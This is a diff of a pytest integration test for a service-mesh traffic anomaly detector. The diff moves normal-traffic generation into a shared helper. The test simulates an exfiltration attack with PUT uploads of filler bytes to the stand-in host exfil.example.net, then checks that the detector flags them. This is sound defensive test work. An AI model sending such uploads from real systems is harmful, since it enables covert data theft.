@@ -5,8 +5,6 @@ and the notebook on the same capture, with its plots inline."""
 from __future__ import annotations
 
 import asyncio
-import contextlib
-import time
 from pathlib import Path
 from typing import Any
 
@@ -17,25 +15,14 @@ from meshwatch.adapters.files.models import load_bundle
 from meshwatch.localmesh.launcher import LocalMesh
 from tests.commands import meshwatch_cli
 from tests.conftest import Running, eventually
+from tests.mesh_traffic import for_seconds, normal_traffic
 from tests.notebooks.test_tuning_notebook import outputs, run_notebook
-from tests.runtime.test_envoy_mesh import HTTPBIN_HOST, TOPOLOGY
+from tests.runtime.test_envoy_mesh import TOPOLOGY
 
 pytestmark = pytest.mark.envoy
 
 WINDOW = 0.5
 ATTACK = "default/sleep->external/exfil.example.net"
-
-
-async def _normal(mesh: LocalMesh, seconds: float) -> None:
-    deadline = time.monotonic() + seconds
-    i = 0
-    while time.monotonic() < deadline:
-        i += 1
-        with contextlib.suppress(OSError, asyncio.TimeoutError):
-            await mesh.request("sleep", HTTPBIN_HOST, f"/status/{i % 20}", size=200)
-            if i % 3 == 0:
-                await mesh.request("sleep", "api.stripe.com", "/v1/charges", "POST", b"{}")
-        await asyncio.sleep(0.01)
 
 
 async def test_capture_review_exclude_train_serve_flags_the_attack_and_the_notebook_runs(
@@ -49,10 +36,10 @@ async def test_capture_review_exclude_train_serve_flags_the_attack_and_the_noteb
     async with LocalMesh(
         TOPOLOGY, mw.service.als_port, tmp_path / "mesh", flush_seconds=0.2
     ) as mesh:
-        await _normal(mesh, 8)
+        await normal_traffic(mesh, for_seconds(8))
         for _ in range(3):
             await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)
-        await _normal(mesh, 10)
+        await normal_traffic(mesh, for_seconds(10))
     await mw.stop()
     taken = read_capture(capture)
     assert taken.meta is not None and taken.meta.window_seconds == WINDOW
@@ -86,7 +73,7 @@ async def test_capture_review_exclude_train_serve_flags_the_attack_and_the_noteb
     async with LocalMesh(
         TOPOLOGY, served.service.als_port, tmp_path / "mesh2", flush_seconds=0.2
     ) as mesh:
-        await _normal(mesh, 1)
+        await normal_traffic(mesh, for_seconds(1))
         await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)
 
         async def flagged() -> list[dict[str, Any]]:
